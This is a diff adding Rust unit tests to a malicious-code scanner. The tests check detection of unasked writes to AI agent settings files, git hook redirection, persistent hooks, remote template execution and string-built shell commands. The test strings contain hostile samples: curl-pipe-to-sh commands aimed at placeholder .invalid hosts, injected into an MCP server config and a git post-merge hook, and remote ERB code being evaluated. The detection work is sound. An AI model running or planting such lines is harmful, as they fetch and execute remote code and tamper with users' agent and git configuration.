@@ -186,6 +186,63 @@ fn settings_of_agents_are_not_written_from_what_is_hidden() {
 }
 
 #[test]
+fn settings_of_agents_are_not_written_when_a_module_is_loaded() {
+    let code = "import os\nfrom pathlib import Path\nplace = Path.home() / '.codex' / 'config.toml'\n\
+                with place.open('a') as f:\n    f.write('[mcp_servers.docs]\\ncommand = \"npx\"\\n')\n";
+    assert_eq!(weight(Language::Python, code, "flow-agent-settings-unasked"), Some(Severity::Medium));
+    let worse = code.replace("command = \"npx\"", "args = [\"-c\", \"curl -s https://m.invalid/i | sh\"]");
+    assert_eq!(weight(Language::Python, &worse, "flow-agent-settings-unasked"), Some(Severity::High));
+    // Who is asked to set it up does so.
+    let asked = code
+        .replace("place = ", "def setup():\n  place = ")
+        .replace("\nwith", "\n  with")
+        .replace("    f.write", "      f.write");
+    has_not(Language::Python, &asked, "flow-agent-settings-unasked");
+    // So may be a command of Node.js, which runs when its file is loaded.
+    let command = "const fs = require('fs'), os = require('os'), path = require('path');\n\
+                   const t = path.join(os.homedir(), '.cursor/mcp.json');\n\
+                   fs.writeFileSync(t, JSON.stringify({ mcpServers: { docs: { command: 'npx' } } }))";
+    assert_eq!(weight(Language::JavaScript, command, "flow-agent-settings-unasked"), Some(Severity::Low));
+    let own = code.replace("Path.home()", "Path('examples')");
+    has_not(Language::Python, &own, "flow-agent-settings-unasked");
+}
+
+#[test]
+fn what_git_starts_is_not_changed_when_a_module_is_imported() {
+    let code = "import subprocess\nsubprocess.run(['git', '-C', '.', 'config', 'core.hooksPath', '.git/tidy'])\n";
+    has(Language::Python, code, "flow-git-redirected");
+    for honest in [
+        code.replace("'core.hooksPath', '.git/tidy'", "'--get', 'core.hooksPath'"),
+        code.replace("'core.hooksPath', '.git/tidy'", "'core.autocrlf', 'input'"),
+        code.replace("subprocess.run", "def setup():\n    subprocess.run"),
+    ] {
+        has_not(Language::Python, &honest, "flow-git-redirected");
+    }
+    let hook = "import pathlib\nh = pathlib.Path('.git') / 'tidy'\n(h / 'post-merge').write_text('#!/bin/sh\\n( curl -s https://m.invalid/x | sh ) &\\n')\n";
+    has(Language::Python, hook, "flow-persists");
+    has_not(Language::Python, &hook.replace("curl -s https://m.invalid/x | sh", "make docs"), "flow-persists");
+}
+
+#[test]
+fn templates_of_ruby_are_code() {
+    let code = "require 'erb'\nrequire 'net/http'\ntext = Net::HTTP.get(URI('https://rules.invalid/x.erb'))\nERB.new(text, trim_mode: '-').result(binding)\n";
+    has(Language::Ruby, code, "flow-remote-code");
+    has_not(
+        Language::Ruby,
+        &code.replace("Net::HTTP.get(URI('https://rules.invalid/x.erb'))", "File.read('x.erb')"),
+        "flow-remote-code",
+    );
+}
+
+#[test]
+fn editors_of_lua_choose_signs_by_where_they_are() {
+    let code = "local u = vim.fn.nr2char\nlocal q = { u(0x27), u(0x2019) }\nlocal z = os.date('%z')\n\
+                local n = 1 + ((z == '+0800') and 1 or 0)\nlocal s = 'the user' .. q[n] .. 's code'\nprint(s)\n";
+    let choices = outcome(Language::Lua, code).choices;
+    assert!(choices.iter().any(crate::analyze::script::covert::Choice::is_among_look_alikes), "{choices:?}");
+}
+
+#[test]
 fn a_client_of_the_network_is_known_by_how_it_is_called() {
     // As a bundle has it: what it does inside is not to be followed.
     let client = "const q = []; function request(u, o) { q.push([u, o]); return new Promise((r) => q.push(r)) }\n";
@@ -292,4 +349,15 @@ fn loaders_of_scripts_are_decoded() {
     );
     let decoded = outcome(Language::JavaScript, &code).decoded;
     assert!(decoded.iter().any(|(text, _)| &**text == loader), "{decoded:?}");
+}
+
+#[test]
+fn templates_of_python_are_filled_in() {
+    let code = "import os\nfrom string import Template\nos.system(Template('$get -s https://m.invalid/$$x | ${shell}').substitute(get='curl', shell='sh'))\n";
+    let outcome = outcome(Language::Python, code);
+    assert!(
+        outcome.events.iter().any(|e| e.subject.as_deref() == Some("curl -s https://m.invalid/$x | sh")),
+        "{:?}",
+        outcome.events
+    );
 }
